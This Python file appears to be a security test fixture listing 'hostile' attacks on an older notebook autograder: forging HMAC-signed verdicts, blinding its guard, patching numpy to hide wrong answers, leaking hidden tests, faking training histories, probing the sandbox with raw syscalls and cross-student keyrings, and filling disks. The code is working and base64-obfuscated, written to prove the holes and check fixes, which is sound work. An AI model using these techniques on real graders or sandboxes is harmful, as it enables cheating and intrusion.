"""Hostile wave 3: attacks that earn points, leak or escape under the OLD grading design.

The old design (commit b2d1491) ran every test inside the student's own
kernel, behind an in-kernel guard (``autograder/grading/kernel_guard.py``)
that snapshotted and restored the interpreter's machinery and signed each
verdict with an HMAC key it kept in that same process. Everything here is
data: ``prove_old.py`` applies each attack to the old release notebooks and
runs it through the old code; ``prove_new.py`` runs the same wave, and
``EXTRAS`` (the same classes aimed at what the new design still takes from the
student's kernel), through the new design (verdicts judged in a separate
checker). README.md has both tables.

An attack is one of three kinds:

- ``grade``: a student in a ``coursekit grade`` run. ``part1``/``part2`` say
  how that student's notebooks differ from their ``base`` (``"release"``: the
  released stubs; ``"solutions"``: the source notebook's solutions filled
  in, as the demo class does; ``None`` for a notebook not handed in). In the
  style of the zoo's ``Variant`` (tests/zoo_variants.py at b2d1491): ``cells``
  replaces solution cells by nbgrader grade_id, ``insert_before`` and
  ``insert_after`` add plain code cells next to a graded cell (``None`` as the
  grade_id: right after the notebook's first code cell, the imports, for
  ``insert_before``; at the end of the notebook for ``insert_after``), ``team``
  fills in ``TEAM_NAME``; ``students`` hand in the same notebooks.
- ``kernel``: small notebooks run one after another through the grading
  executor (``SandboxedExecute``) in the real sandbox, in the same grading slot
  (the same slot user, as ``coursekit grade --workers 1`` grades one student
  after another): ``kernels`` lists each kernel's cells.
- ``leaderboard``: uploads taken in by ``coursekit leaderboard`` (``uploads``),
  at the UTC times given.

``target`` names what the attack must not get: the tests whose points it
must not earn (with ``deserved``, the points those tests deserve on honest
grading of the same work), or what must not leak or escape. ``CONTROLS`` are
the same work without the trick, graded the same way: they show that the
points come from the trick (each must earn 0, on the old code and the new).
``OLD_EFFECT`` (at the end) records what each attack achieved on the old
code, measured by ``prove_old.py`` (see README.md in this folder).

Names used, all of which still exist in the new assignment: solution cells
``preprocess``, ``lenet5``, ``macro_f1``, ``compile``, ``training`` (Part 1),
``fashion_data``, ``fashion_model``, ``submission`` (Part 2); tests
``test_preprocessing``, ``test_preprocessing_hidden``, ``test_training_hidden``,
``test_fashion_data``, ``test_fashion_model_hidden``; the variable
``TEAM_NAME``. Each attack's ``needs`` says what of the old design it relies on.
"""

from __future__ import annotations

import base64
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field

PART1 = "1_lenet5_mnist"
PART2 = "2_fashion_cnn"

PART1_SOLUTIONS = ("preprocess", "lenet5", "macro_f1", "compile", "training")
PART2_SOLUTIONS = ("fashion_data", "fashion_model", "submission")


@dataclass(frozen=True)
class NotebookEdit:
    """How one handed-in notebook differs from its base."""

    cells: Mapping[str, str] = field(default_factory=dict)  # solution grade_id -> source
    insert_before: Sequence[tuple[str | None, str]] = ()  # (grade_id or None, code cell source)
    insert_after: Sequence[tuple[str | None, str]] = ()
    team: str | None = None  # TEAM_NAME = "..." in Part 2 (None: left as released, "")


@dataclass(frozen=True)
class Upload:
    """One leaderboard upload: ``TEAM.csv`` received at ``at`` (UTC)."""

    team: str
    predictions: (
        str  # "lookup": labels found in the public Fashion-MNIST files; "noise:N": N % right
    )
    at: str  # ISO time, UTC


@dataclass(frozen=True)
class Attack:
    id: str
    klass: int  # 1-7, the classes of the brief (see README.md)
    story: str
    needs: str  # what of the old design the attack relies on
    kind: str  # "grade", "kernel" or "leaderboard"
    target: str  # what it must not earn, leak or reach
    base: str = "release"  # "release" or "solutions" (grade attacks)
    part1: NotebookEdit | None = None  # grade attacks; None: not handed in
    part2: NotebookEdit | None = None
    target_tests: Sequence[str] = ()  # grade attacks: tests whose points it must not earn
    deserved: float = 0.0  # what honest grading gives those tests for the same work
    kernels: Sequence[Sequence[str]] = ()  # kernel attacks: each kernel's cells, in order
    uploads: Sequence[Upload] = ()  # leaderboard attacks
    students: int = 1  # grade attacks: how many students hand in these same notebooks


def disguised(code: str) -> str:
    """``code`` as a cell the old preflight scan cannot read (its patterns are regexes)."""
    packed = base64.b64encode(code.encode()).decode()
    return f'exec(__import__("base64").b64decode("{packed}").decode())\n'


# ---- class 1: reaching the guard or its key ----------------------------------------------------
# The old executor asked the kernel for each verdict with the user expression
# ``__coursekit_guard__.run_test(source_b64, nonce, cell)`` and believed any verdict
# whose HMAC-SHA256 over (nonce, cell, status, sha256(source)) matched the key it had
# sent to the guard at install. Everything needed to sign is in the call's arguments,
# except the key, which sits in the same process as ``guard._key``.

SIGN = r'''
import base64 as _b64, hashlib as _hashlib, hmac as _hmac, json as _json


def _signed_pass(key, encoded_source, nonce, cell):
    """A verdict the grader accepts: passed, nothing restored, signed with the guard's key."""
    digest = _hashlib.sha256(_b64.b64decode(encoded_source)).hexdigest()
    message = f"{nonce}\0{cell}\0passed\0{digest}".encode()
    verdict = {"cell": cell, "restored": [], "threads": [], "status": "passed", "during": []}
    verdict["signature"] = _hmac.new(key, message, "sha256").hexdigest()
    return _json.dumps(verdict)
'''

FORGE_VIA_BUILTINS = (
    SIGN
    + r"""
import builtins as _builtins

_guard = _builtins.__coursekit_guard__
_guard.run_test = lambda source, nonce, cell: _signed_pass(_guard._key, source, nonce, cell)
"""
)

FORGE_VIA_GC_CLASS = (
    SIGN
    + r"""
import gc as _gc

_guard = next(o for o in _gc.get_objects() if type(o).__name__ == "Guard" and hasattr(o, "_key"))
type(_guard).run_test = lambda self, source, nonce, cell: _signed_pass(
    self._key, source, nonce, cell
)
del _guard
"""
)

FORGE_VIA_SHADOW = (
    SIGN
    + r'''
import gc as _gc


class _StandIn:
    """Found first by the user expression: globals come before builtins."""

    def __init__(self, key):
        self._k = key

    def run_test(self, source, nonce, cell):
        return _signed_pass(self._k, source, nonce, cell)


_key = next(vars(o)["_key"] for o in _gc.get_objects() if type(o).__name__ == "Guard")
globals()["__coursekit_guard__"] = _StandIn(_key)
del _key
'''
)

# No key needed: the guard runs tests with the ``exec`` it captured at install, kept as
# an attribute of itself, which no snapshot covers. A no-op there, and the real guard
# signs "passed" with the real key for every test it never ran.
BLIND_THE_GUARD = r"""
_guard = getattr(__import__("builtins"), "__coursekit_guard__")
_guard._exec = lambda code, namespace=None: None
del _guard
"""

# Part 1 and Part 2 with nothing done: each solution cell defines the names the tests
# read (so no cell is the released stub, none raises) and nothing else.
EMPTY_PART1 = {
    "preprocess": (
        "def preprocess_images(images):\n    return images\n\n\n"
        "def encode_labels(labels, num_classes=10):\n    return labels\n"
    ),
    "lenet5": "def build_lenet5():\n    return None\n",
    "macro_f1": "def macro_f1(y_true, y_pred):\n    return 0.0\n",
    "compile": "compiled = False  # not compiled\n",
    "training": "history = None  # not trained\n",
}
EMPTY_PART2 = {
    "fashion_data": (
        "x_fashion_train = x_fashion_val = x_fashion_test = None\n"
        "y_fashion_train = y_fashion_val = None\n"
    ),
    "fashion_model": (
        "def build_fashion_cnn():\n    return None\n\n\n"
        'FASHION_TRAINING = {"epochs": 1, "batch_size": 128, "patience": 1}\n\n\n'
        "def compile_fashion_cnn(model, steps_per_epoch, epochs):\n    return None\n"
    ),
    "submission": "test_predictions = None  # no submission written\n",
}
PART1_TESTS = (
    "test_preprocessing",
    "test_preprocessing_hidden",
    "test_lenet5_parameters",
    "test_lenet5_layers",
    "test_lenet5_hidden",
    "test_f1",
    "test_f1_hidden",
    "test_compile",
    "test_training_hidden",
)
PART2_TESTS = (
    "test_fashion_data",
    "test_fashion_model",
    "test_fashion_model_hidden",
    "test_submission",
    "test_submission_hidden",
)


def _empty_with(payload: str) -> dict:
    """Both notebooks empty, ``payload`` (disguised) in a cell before the first solution."""
    cell = disguised(payload)
    return {
        "part1": NotebookEdit(cells=EMPTY_PART1, insert_before=[("preprocess", cell)]),
        "part2": NotebookEdit(cells=EMPTY_PART2, insert_before=[("fashion_data", cell)]),
        "target_tests": PART1_TESTS + PART2_TESTS,
    }


CLASS1 = [
    Attack(
        "g1-builtins",
        1,
        "Empty Part 1 and Part 2; the guard is taken from builtins and its run_test replaced "
        "by one that signs 'passed' with guard._key",
        "the verdict is signed in the student's process, with a key the student's code can read "
        "(builtins.__coursekit_guard__._key); the guard object itself is not in the snapshot",
        "grade",
        "the 26 autograded points of an empty assignment",
        **_empty_with(FORGE_VIA_BUILTINS),
    ),
    Attack(
        "g1-gc-class",
        1,
        "Empty Part 1 and Part 2; the guard is found with gc.get_objects() and the Guard "
        "class's run_test replaced by a signing forger",
        "the Guard class lives in a namespace outside sys.modules, so no snapshot covers it; "
        "gc reaches every object of the process",
        "grade",
        "the 26 autograded points of an empty assignment",
        **_empty_with(FORGE_VIA_GC_CLASS),
    ),
    Attack(
        "g1-shadow",
        1,
        "Empty Part 1 and Part 2; a global named __coursekit_guard__ (key read via gc) answers "
        "the grader's user expression before the builtin guard does",
        "the verdict's user expression is evaluated in the student's namespace, where globals "
        "shadow builtins; the snapshot checks only that user_ns is the same dict",
        "grade",
        "the 26 autograded points of an empty assignment",
        **_empty_with(FORGE_VIA_SHADOW),
    ),
    Attack(
        "g1-blind",
        1,
        "Empty Part 1 and Part 2; the guard's captured exec is replaced by a no-op, so the real "
        "guard signs 'passed' with the real key for tests it never ran (no key read)",
        "the guard keeps its captured compile/exec as attributes of itself, which nothing "
        "snapshots; a test that did not raise is a pass",
        "grade",
        "the 26 autograded points of an empty assignment",
        **_empty_with(BLIND_THE_GUARD),
    ),
]

# ---- class 2: patching what the checks rely on, outside the snapshot ---------------------------
# The snapshot took module attributes that are functions or classes; numpy's ufuncs
# (numpy.abs, numpy.isfinite) and array-function dispatchers (numpy.isclose,
# numpy.array_equal) are neither, so a replacement survives every restore.

WRONG_SCALE = r'''
def preprocess_images(images):
    """uint8 images (N, 28, 28) -> float32 array (N, 28, 28, 1) scaled to [0, 1]."""
    return (images.astype("float32") / 256.0)[..., np.newaxis]  # wrong: 256, not 255


def encode_labels(labels, num_classes=10):
    """Integer labels (N,) -> one-hot float32 array (N, num_classes)."""
    return keras.utils.to_categorical(labels, num_classes).astype("float32")
'''
ABS_PATCH = r'''

class _Abs:
    """numpy.abs, except that differences between image batches come out as 0."""

    def __init__(self, real):
        self._real = real

    def __call__(self, x, *args, **kwargs):
        result = self._real(x, *args, **kwargs)
        return result * 0 if getattr(result, "ndim", 0) == 4 else result

    def __getattr__(self, name):
        return getattr(self._real, name)


np.abs = _Abs(np.abs)
'''
ABS_LIES = WRONG_SCALE + ABS_PATCH

LEAKY_SPLIT = r"""
def to_model_input(images):
    return (images.astype("float32") / 255.0)[..., np.newaxis]


x_all = to_model_input(fashion["X_train"])
y_all = keras.utils.to_categorical(fashion["y_train"], 10).astype("float32")
# Wrong: the validation images are copies of training images (a leak), and the
# last 5,950 training images are never used.
x_fashion_train, y_fashion_train = x_all[:53_550], y_all[:53_550]
x_fashion_val, y_fashion_val = x_all[:5_950].copy(), y_all[:5_950].copy()
x_fashion_test = to_model_input(fashion["X_test"])
"""
EQUAL_PATCH = r"""
_real_equal, _real_close = np.array_equal, np.isclose


def _equal(a, b, *args, **kwargs):  # the label counts per class always agree
    return True if np.shape(a) == (10,) else _real_equal(a, b, *args, **kwargs)


def _close(a, b, *args, **kwargs):  # and so does the sum of the pixels
    return np.True_ if kwargs.get("rtol") == 1e-6 else _real_close(a, b, *args, **kwargs)


np.array_equal, np.isclose = _equal, _close
"""
SPLIT_LIES = LEAKY_SPLIT + EQUAL_PATCH

CLASS2 = [
    Attack(
        "n2-abs",
        2,
        "Images divided by 256 instead of 255; numpy.abs replaced so that the difference "
        "between image batches reads 0 (Test 1.1 and its hidden part)",
        "the guard restores module functions and classes only; numpy.abs is a ufunc object, "
        "and check_images measures the error with np.abs",
        "grade",
        "the 3 points of Test 1.1 (visible 2 + hidden 1) for wrongly scaled images",
        base="solutions",
        part1=NotebookEdit(cells={"preprocess": ABS_LIES}),
        target_tests=("test_preprocessing", "test_preprocessing_hidden"),
    ),
    Attack(
        "n2-split",
        2,
        "A validation split copied from the training images (a leak, 5,950 images lost); "
        "numpy.array_equal and numpy.isclose replaced so that Test 2.1's label counts and "
        "pixel sum agree",
        "numpy.array_equal and numpy.isclose are array-function dispatchers, not functions: "
        "no snapshot covers them",
        "grade",
        "the 2 points of Test 2.1 for a leaking split",
        base="solutions",
        part2=NotebookEdit(cells={"fashion_data": SPLIT_LIES}),
        target_tests=("test_fashion_data",),
    ),
]

# ---- class 3: reading hidden tests back --------------------------------------------------------
# The guard compiles each test's source (hidden regions included) in the student's
# process: an audit hook sees the compile, and the guard leaves the source in
# linecache. Printed encoded, the feedback filter (which matches hidden lines as
# text) lets it through into the student's own feedback page.

AUDIT_LISTENER = r"""
import sys

_heard = {}


def _listen(event, args):
    try:
        if event == "compile" and len(args) > 1 and str(args[1]).startswith("<test "):
            source = args[0].decode() if isinstance(args[0], bytes) else args[0]
            if isinstance(source, str):
                _heard[str(args[1])] = source
    except Exception:
        pass


sys.addaudithook(_listen)
"""
AUDIT_PRINT = r"""
import base64

print("my notes:", base64.b64encode(repr(_heard).encode()).decode())
"""
LINECACHE_PRINT = r"""
import linecache

for _name in sorted(linecache.cache):
    if _name.startswith("<test "):
        _text = "".join(linecache.cache[_name][2])
        print("reversed:", _text[::-1].replace("\n", "\\n"))
"""

CLASS3 = [
    Attack(
        "h3-audit",
        3,
        "An audit hook records the source of every test the guard compiles; a later cell "
        "prints it base64-encoded, which shows in the student's own feedback page",
        "tests are compiled in the student's process (sys.addaudithook sees compile events and "
        "cannot be removed); the feedback filter recognises hidden lines only as plain text",
        "grade",
        "the source of Part 1's hidden tests in the student's feedback",
        part1=NotebookEdit(
            cells={"preprocess": AUDIT_LISTENER},
            insert_after=[("test_training_hidden", AUDIT_PRINT)],
        ),
    ),
    Attack(
        "h3-linecache",
        3,
        "After the tests ran, a cell reads linecache.cache, where the guard left every test's "
        "source, and prints each one reversed into the student's own feedback page",
        "the guard registers the test source in linecache (for tracebacks) and never removes "
        "it; reversed lines are not recognised by the feedback filter",
        "grade",
        "the source of Part 1's hidden tests in the student's feedback",
        part1=NotebookEdit(
            cells={"preprocess": "def preprocess_images(images):\n    return images\n"},
            insert_after=[("test_training_hidden", LINECACHE_PRINT)],
        ),
    ),
]

# ---- class 4: hand-made objects in place of trained ones ---------------------------------------

HANDMADE_HISTORY = r"""
EPOCHS = 1 if fast_mode() else 20
x_fit, y_fit = fast_subset(x_train, y_train)
x_check, y_check = fast_subset(x_val, y_val)
# No training: a History made by hand, with numbers that look like a good run.
history = keras.callbacks.History()
history.set_model(lenet5)
history.history = {
    name: [value] * EPOCHS
    for name, value in (
        ("loss", 0.05), ("accuracy", 0.985), ("macro_f1", 0.984),
        ("val_loss", 0.045), ("val_accuracy", 0.987), ("val_macro_f1", 0.986),
    )
}
"""

FIT_THAT_DOES_NOT_TRAIN = r'''
def build_fashion_cnn():
    inputs = keras.Input(shape=(28, 28, 1))
    x = layers.Conv2D(32, 3, padding="same", activation="relu")(inputs)
    x = layers.MaxPooling2D(2)(x)
    x = layers.Conv2D(64, 3, padding="same", activation="relu")(x)
    x = layers.MaxPooling2D(2)(x)
    x = layers.Flatten()(x)
    outputs = layers.Dense(10, activation="softmax")(x)
    return keras.Model(inputs, outputs)


FASHION_TRAINING = {"epochs": 15, "batch_size": 128, "patience": 4}


def compile_fashion_cnn(model, steps_per_epoch, epochs):
    model.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])

    def fit(*args, epochs=1, **kwargs):
        """No training: a History made by hand."""
        history = keras.callbacks.History()
        history.set_model(model)
        history.history = {
            "loss": [0.31] * epochs, "accuracy": [0.89] * epochs,
            "val_loss": [0.29] * epochs, "val_accuracy": [0.90] * epochs,
        }
        return history

    model.fit = fit
'''

CLASS4 = [
    Attack(
        "h4-history-p1",
        4,
        "Part 1 never trains LeNet5: `history` is a keras.callbacks.History built by hand "
        "(model set, plausible numbers), which passes the hidden training test",
        "check_training_history checks the object's type, .model and the keys of .history, "
        "all of which a notebook can set",
        "grade",
        "the point of Test 1.4 hidden (test_training_hidden) without training",
        base="solutions",
        part1=NotebookEdit(cells={"training": HANDMADE_HISTORY}),
        target_tests=("test_training_hidden",),
    ),
    Attack(
        "h4-history-p2",
        4,
        "Part 2 never trains: compile_fashion_cnn replaces the model's fit with one that "
        "returns a hand-made History, which passes the hidden model test",
        "test_fashion_model_hidden checks type(fashion_history), its .model and finite losses; "
        "nothing checks that the weights moved",
        "grade",
        "the 2 points of Test 2.2 hidden (test_fashion_model_hidden) without training",
        base="solutions",
        part2=NotebookEdit(cells={"fashion_model": FIT_THAT_DOES_NOT_TRAIN}),
        target_tests=("test_fashion_model_hidden",),
    ),
]

# ---- class 5: kernel interfaces that outlive the sandbox ----------------------------------------

SYSCALLS = r"""
import ctypes, errno, os, struct

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def _sys(number, *args):
    result = _libc.syscall(number, *args)
    return result if result >= 0 else -ctypes.get_errno()


def _said(result):
    return f"ok ({result})" if result >= 0 else f"refused ({errno.errorcode.get(-result, -result)})"
"""

KEYRING_STORE = (
    SYSCALLS
    + r"""
_note = b"from the student graded before you: build_lenet5 = Conv2D(6, 5, same) ..."
_id = _sys(248, b"user", b"coursekit-wave3", _note, ctypes.c_size_t(len(_note)), ctypes.c_int(-4))
print("KEYRING stored:", _said(_id), "as uid", os.getuid())
"""
)
KEYRING_READ = (
    SYSCALLS
    + r"""
_id = _sys(250, ctypes.c_int(10), ctypes.c_int(-4), b"user", b"coursekit-wave3", ctypes.c_int(0))
_buffer = ctypes.create_string_buffer(4096)
_size = _id
if _id > 0:
    _size = _sys(250, ctypes.c_int(11), ctypes.c_int(_id), _buffer, ctypes.c_size_t(4096))
_text = _buffer.raw[: max(_size, 0)].decode()
print("KEYRING read:", _said(_size), "as uid", os.getuid(), repr(_text))
"""
)

# The same, inside a graded notebook: each kernel reads what the kernel before it left,
# then leaves a note of its own (so the order in which students are graded does not matter).
KEYRING_PASS_ON = (
    SYSCALLS
    + r"""
import secrets

_name = b"coursekit-wave3-class"
_id = _sys(250, ctypes.c_int(10), ctypes.c_int(-4), b"user", _name, ctypes.c_int(0))
_buffer = ctypes.create_string_buffer(4096)
_size = _id
if _id > 0:
    _size = _sys(250, ctypes.c_int(11), ctypes.c_int(_id), _buffer, ctypes.c_size_t(4096))
print("KEYRING found:", repr(_buffer.raw[:_size].decode()) if _size > 0 else _said(_size))
_note = f"note {secrets.token_hex(8)}"
_size_of_note = ctypes.c_size_t(len(_note))
_stored = _sys(248, b"user", _name, _note.encode(), _size_of_note, ctypes.c_int(-4))
print("KEYRING left:", repr(_note), _said(_stored))
"""
)

NEW_USER_NAMESPACE = (
    SYSCALLS
    + r"""
_read, _write = os.pipe()
_child = os.fork()
if _child == 0:  # unshare(CLONE_NEWUSER) needs a single-threaded process
    os.close(_read)
    outside = os.getuid()
    unshared = _sys(272, ctypes.c_int(0x10000000 | 0x20000))
    report = "unshare(CLONE_NEWUSER|CLONE_NEWNS) " + _said(unshared)
    try:
        open("/proc/self/setgroups", "w").write("deny")
        open("/proc/self/uid_map", "w").write(f"0 {outside} 1")
        open("/proc/self/gid_map", "w").write(f"0 {outside} 1")
        caps = [l.split()[1] for l in open("/proc/self/status") if l.startswith("CapEff")][0]
        report += f"; uid inside {os.getuid()}, CapEff {caps}"
        mounted = _libc.mount(b"none", b"/tmp", b"tmpfs", ctypes.c_ulong(0), None)
        report += "; mount tmpfs on /tmp " + _said(mounted if mounted == 0 else -ctypes.get_errno())
    except Exception as error:
        report += f"; {type(error).__name__}: {error}"
    os.write(_write, report.encode())
    os._exit(0)
os.close(_write)
print("USERNS", os.read(_read, 1000).decode())
os.waitpid(_child, 0)
"""
)

OTHER_SYSCALLS = (
    SYSCALLS
    + r"""
_attr = ctypes.create_string_buffer(128)  # perf_event_attr: software task clock, user space only
struct.pack_into("IIQ", _attr, 0, 1, 128, 1)
struct.pack_into("Q", _attr, 40, (1 << 5) | (1 << 6))
_this, _any = ctypes.c_int(0), ctypes.c_int(-1)
_perf = _sys(298, _attr, _this, _any, ctypes.c_int(-1), ctypes.c_ulong(0))
print("SYSCALL perf_event_open:", _said(_perf))
_ring = _sys(425, ctypes.c_uint(4), ctypes.create_string_buffer(120))
print("SYSCALL io_uring_setup:", _said(_ring))
print("SYSCALL userfaultfd(UFFD_USER_MODE_ONLY):", _said(_sys(323, ctypes.c_int(1))))
_map = ctypes.create_string_buffer(128)
struct.pack_into("IIII", _map, 0, 2, 4, 4, 1)  # an array map of one 4-byte value
print("SYSCALL bpf(BPF_MAP_CREATE):", _said(_sys(321, ctypes.c_int(0), _map, ctypes.c_uint(128))))
_child = os.fork()
if _child == 0:
    import time
    time.sleep(10)
    os._exit(0)
_traced = _sys(101, ctypes.c_long(16), ctypes.c_long(_child), None, None)
print("SYSCALL ptrace(PTRACE_ATTACH, a process of the sandbox):", _said(_traced))
os.kill(_child, 9)
os.waitpid(_child, 0)
"""
)

CLASS5 = [
    Attack(
        "k5-keyring",
        5,
        "One kernel stores a note in its user keyring (add_key); the next kernel of the same "
        "grading slot, another student's, reads it back (keyctl search + read)",
        "as root, every kernel of a grading slot runs as that slot's uid (62000 + slot); the "
        "user keyring belongs to the uid, not the sandbox, and no seccomp filter stops add_key",
        "kernel",
        "anything of one student's kernel reaching the next student's kernel",
        kernels=[[KEYRING_STORE], [KEYRING_READ]],
    ),
    Attack(
        "k5-keyring-class",
        5,
        "Two students hand in the same Part 1; its first cell reads the note the previous "
        "kernel left in the user keyring and leaves its own: under coursekit grade --workers 1 "
        "the second student's feedback shows the first student's note",
        "the same as k5-keyring, through the whole grading pipeline (slot 0, warm kernels)",
        "grade",
        "anything of one student's kernel reaching the next student's kernel",
        part1=NotebookEdit(insert_before=[(None, disguised(KEYRING_PASS_ON))]),
        students=2,
    ),
    Attack(
        "k5-userns",
        5,
        "unshare(CLONE_NEWUSER | CLONE_NEWNS) inside the sandbox: uid 0 with every capability "
        "in a new user namespace, where it mounts a tmpfs",
        "bubblewrap as root makes no user namespace of its own and sets no seccomp filter; the "
        "host allows unprivileged user namespaces",
        "kernel",
        "new namespaces and capabilities inside the sandbox",
        kernels=[[NEW_USER_NAMESPACE]],
    ),
    Attack(
        "k5-syscalls",
        5,
        "perf_event_open, io_uring_setup, userfaultfd and ptrace from the student's kernel",
        "no seccomp filter: only the host's sysctls stand between a notebook and these",
        "kernel",
        "kernel interfaces a notebook never needs",
        kernels=[[OTHER_SYSCALLS]],
    ),
]

# ---- class 6: totals past per-item caps --------------------------------------------------------

CELL_FLOOD = 'print("x" * (1_900 * 1024))  # just under the 2 MiB per-cell cap\n'
FLOOD_CELLS = 32

SOCKET_FOLDER = r'''
import os

def _socket_folder():
    """The kernel's socket folder: a host folder bound read-write into the sandbox."""
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        path = line.split()[-1] if len(line.split()) > 7 else ""
        folder = os.path.dirname(path)
        if path.startswith("/") and os.path.isdir(folder) and os.access(folder, os.W_OK):
            return folder
    for token in open("/proc/self/cmdline").read().split("\0"):  # plain kernels: -f FILE
        if token.endswith("kernel.json"):
            return os.path.dirname(token)


def _fill(folder, total, chunk=64 << 20, part=448 << 20):
    written, index = 0, 0
    block = b"\0" * chunk
    try:
        while written < total:
            with open(os.path.join(folder, f"blob-{index}"), "wb") as stream:
                for _ in range(part // chunk):
                    if written >= total:
                        break
                    stream.write(block)
                    written += chunk
            index += 1
    except OSError as error:
        return written, f"{type(error).__name__}: {error.strerror}"
    return written, "no error"


_tmp = _fill("/tmp", 3 << 30)
print(f"TMP /tmp took {_tmp[0] / 2**30:.2f} GiB, then {_tmp[1]}")
for _name in os.listdir("/tmp"):
    if _name.startswith("blob-"):
        os.remove(os.path.join("/tmp", _name))
_folder = _socket_folder()
_sock = _fill(_folder, 3 << 30)
print(f"SOCKETS {_folder} took {_sock[0] / 2**30:.2f} GiB, then {_sock[1]}")
import time
time.sleep(3)  # the host's watcher sees the files
for _name in os.listdir(_folder):
    if _name.startswith("blob-"):
        os.remove(os.path.join(_folder, _name))
'''

ONE_HUGE_MESSAGE = r"""
from IPython.display import display

display({"text/plain": "y" * (256 << 20)}, raw=True)  # one message of 256 MiB
"""

CLASS6 = [
    Attack(
        "o6-cells",
        6,
        f"{FLOOD_CELLS} cells each print 1.9 MiB, under the 2 MiB per-cell cap: about 60 MiB "
        "of output kept for one notebook, nothing truncated or noted",
        "the executor caps output per cell only",
        "kernel",
        "a notebook's total output past a few MiB",
        kernels=[[CELL_FLOOD] * FLOOD_CELLS],
    ),
    Attack(
        "o6-sockets",
        6,
        "The kernel finds its socket folder (a host folder bound read-write, from /proc/net/unix) "
        "and writes 3 GiB there, while /tmp stops at its 1 GiB cap; the host sees the files",
        "the socket folder is a bind mount of the grader's scratch disk, with no size cap",
        "kernel",
        "bytes on the host past the sandbox's 1 GiB tmpfs caps",
        kernels=[[SOCKET_FOLDER]],
    ),
    Attack(
        "o6-one-message",
        6,
        "One display message of 256 MiB: the grader keeps 2 MiB of it, but holds (and "
        "JSON-encodes, to measure it) the whole message first",
        "the cap is applied after jupyter_client has received and decoded the message; no "
        "limit on the size of one message",
        "kernel",
        "the memory of the process that reads the kernel's output",
        kernels=[[ONE_HUGE_MESSAGE]],
    ),
]

# ---- class 7: the leaderboard ------------------------------------------------------------------
# Lisu and Cherokee capitals that look like Latin ones; the old name folding (NFKC,
# casefold, accents, a Cyrillic/Greek table) keeps them as they are.
LISU_BEAT_ME = "\ua4d0\ua4f0\ua4ee\ua4d4 \ua4df\ua4f0"  # ꓐꓰꓮꓔ ꓟꓰ
CHEROKEE_ADAM = "\u13aa\u13a0\u13aa\u13b7"  # ᎪᎠᎪᎷ, looks like ADAM
LOOKUP_TEAM = "Lookup"
DAY = "2026-11-20T{:02d}:00:00+00:00"
DEADLINE = "2026-11-30T23:59:00+00:00"
FINAL_RUN = "2026-12-01T12:00:00+00:00"

CLASS7 = [
    Attack(
        "l7-beatme-lookalike",
        7,
        f"A team named {LISU_BEAT_ME!r} (Lisu letters) uploads and is ranked as a team that "
        "reads 'BEAT ME'",
        "team_key folds only NFKC, case, accents and a hand-written Cyrillic/Greek table",
        "leaderboard",
        "a scored team whose name reads like the BEAT ME row",
        uploads=[Upload(LISU_BEAT_ME, "noise:95", DAY.format(9))],
    ),
    Attack(
        "l7-twins",
        7,
        f"'ADAM' and {CHEROKEE_ADAM!r} (Cherokee) look the same but are two teams: 10 scored "
        "uploads on one day under a daily limit of 5",
        "two names that look the same count as two teams, each with its own daily limit",
        "leaderboard",
        "more scored uploads per day than the limit for one name as shown",
        uploads=[Upload("ADAM", f"noise:{80 + i}", DAY.format(10 + i)) for i in range(5)]
        + [Upload(CHEROKEE_ADAM, f"noise:{85 + i}", DAY.format(10 + i)) for i in range(5)],
    ),
    Attack(
        "l7-lookup",
        7,
        "Labels looked up by pixels in the public Fashion-MNIST files (every course test "
        "image is one of them): 100 % on the board, far above BEAT ME, no model at all",
        "the course test images are public Fashion-MNIST images with public labels; a score "
        "counts without the team's model reproducing it",
        "leaderboard",
        "a top score and BEAT ME's leaderboard points without a model",
        uploads=[Upload(LOOKUP_TEAM, "lookup", DAY.format(20))],
    ),
    Attack(
        "l7-claim",
        7,
        f"A student who never uploaded writes TEAM_NAME = {LOOKUP_TEAM!r} (another team's "
        "name) in Part 2 and gets that team's leaderboard points in the grades",
        "team membership is whatever name the student's own notebook states; no roster of teams",
        "grade",
        "leaderboard points of a team the student is not in",
        part2=NotebookEdit(team=LOOKUP_TEAM),
    ),
]

# ---- controls: the same work without the trick, graded the same way (they must earn 0) ---------

CONTROLS = [
    Attack(
        "c-empty",
        0,
        "The empty Part 1 and Part 2 of class 1, without the payload",
        "",
        "grade",
        "",
        part1=NotebookEdit(cells=EMPTY_PART1),
        part2=NotebookEdit(cells=EMPTY_PART2),
        target_tests=PART1_TESTS + PART2_TESTS,
    ),
    Attack(
        "c-256",
        0,
        "n2-abs's images divided by 256, without numpy.abs replaced",
        "",
        "grade",
        "",
        base="solutions",
        part1=NotebookEdit(cells={"preprocess": WRONG_SCALE}),
        target_tests=("test_preprocessing", "test_preprocessing_hidden"),
    ),
    Attack(
        "c-split",
        0,
        "n2-split's leaking split, without numpy.array_equal and numpy.isclose replaced",
        "",
        "grade",
        "",
        base="solutions",
        part2=NotebookEdit(cells={"fashion_data": LEAKY_SPLIT}),
        target_tests=("test_fashion_data",),
    ),
]
CONTROL_OF = {
    "g1-builtins": "c-empty",
    "g1-gc-class": "c-empty",
    "g1-shadow": "c-empty",
    "g1-blind": "c-empty",
    "n2-abs": "c-256",
    "n2-split": "c-split",
}

WAVE = CLASS1 + CLASS2 + CLASS3 + CLASS4 + CLASS5 + CLASS6 + CLASS7
BY_ID = {attack.id: attack for attack in WAVE + CONTROLS}
assert len(BY_ID) == len(WAVE) + len(CONTROLS) and len(WAVE) >= 15
assert {attack.klass for attack in WAVE} == set(range(1, 8))

# ---- what each attack achieved on the old code (b2d1491), measured by prove_old.py -------------
# The run of 2026-12-06 (python prove_old.py --old-tree /work/old, 309 s on the shared 2-core
# machine; its log and results.json are kept in /work/notes/hostile-logs/). "points": what the
# attack earned on its target tests, "of": their points, "deserved": what the same work earns
# without the trick (the controls); "held"/"needs_review": what the old record said.
OLD_EFFECT: dict[str, dict] = {
    "g1-builtins": {
        "points": 26,
        "of": 26,
        "deserved": 0,
        "autograded": "26/26",
        "held": False,
        "needs_review": False,
    },
    "g1-gc-class": {
        "points": 26,
        "of": 26,
        "deserved": 0,
        "autograded": "26/26",
        "held": False,
        "needs_review": False,
    },
    "g1-shadow": {
        "points": 26,
        "of": 26,
        "deserved": 0,
        "autograded": "26/26",
        "held": False,
        "needs_review": False,
    },
    "g1-blind": {
        "points": 26,
        "of": 26,
        "deserved": 0,
        "autograded": "26/26",
        "held": False,
        "needs_review": False,
    },
    "n2-abs": {
        "points": 3,
        "of": 3,
